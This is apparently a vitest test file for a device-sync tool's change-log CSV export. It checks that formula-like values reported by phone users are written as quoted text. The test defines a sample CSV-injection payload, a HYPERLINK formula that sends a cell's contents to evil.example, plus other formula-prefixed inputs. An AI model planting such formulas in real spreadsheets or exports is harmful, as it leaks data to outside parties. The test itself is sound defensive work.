// The sync's change log CSV (attached to the Slack report and streamed to SYNC_REPORT_DIR) carries device names
// and serials the MDM reports — set by phone users. A formula there is written as text (src/csv/cell.ts).
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { ChangeLog } from '../../src/sync/change-log';
import { DIALECTS } from '../support/databases';
import { harness, type Harness } from './support/harness';
import { mdmDevice } from './support/memory-mdm';

const FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
const cells = (csv: string) => (parse(csv, { columns: false }) as string[][]).flat();

describe('ChangeLog', () => {
  it('neutralises every cell, in the attachment and in the streamed file', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'change-log-'));
    try {
      const log = new ChangeLog('run-1', 10, dir);
      log.add({
        source: 'jamf',
        action: 'updated',
        ledgerDeviceId: 'd1',
        mdmDeviceId: '@1',
        serial: '-SERIAL',
        assetNumber: '+A',
        field: 'deviceName',
        from: 'old',
        to: FORMULA,
        note: '\tnote',
      });
      await log.close();
      for (const csv of [log.csv(), readFileSync(log.path!, 'utf8')]) {
        expect(cells(csv)).toEqual([
          ...['run_id', 'source', 'action', 'ledger_device_id', 'mdm_device_id', 'serial', 'asset_number', 'field', 'old_value', 'new_value', 'note'],
          ...['run-1', 'jamf', 'updated', 'd1', "'@1", "'-SERIAL", "'+A", 'deviceName', 'old', `'${FORMULA}`, "'\tnote"],
        ]);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe.each(DIALECTS)('sync report attachment (%s)', (dialect) => {
  let h: Harness;
  afterEach(async () => h?.cleanup());

  it('a device renamed to a formula by its user arrives in the CSV as text', async () => {
    h = await harness(dialect);
    h.mdms[0]!.set([mdmDevice('intune', 'x-1', { serial: 'F1', name: 'iPhone' })]);
    await h.sync().runNow({ dryRun: false, actor: 'U1', trigger: 'command' });
    h.mdms[0]!.set([mdmDevice('intune', 'x-1', { serial: 'F1', name: FORMULA }), mdmDevice('intune', 'x-2', { serial: '@SUM(1)', name: '+cmd' })]);
    h.reports.posted.length = 0;
    await h.sync().runNow({ dryRun: false, actor: 'U1', trigger: 'command' });
    const rows = parse(h.reports.posted[0]!.attachment!.content, { columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r.field === 'deviceName' && r.mdm_device_id === 'x-1')?.new_value).toBe(`'${FORMULA}`);
    expect(rows.find((r) => r.action === 'created')?.serial).toBe("'@SUM(1)");
    expect(cells(h.reports.posted[0]!.attachment!.content).filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
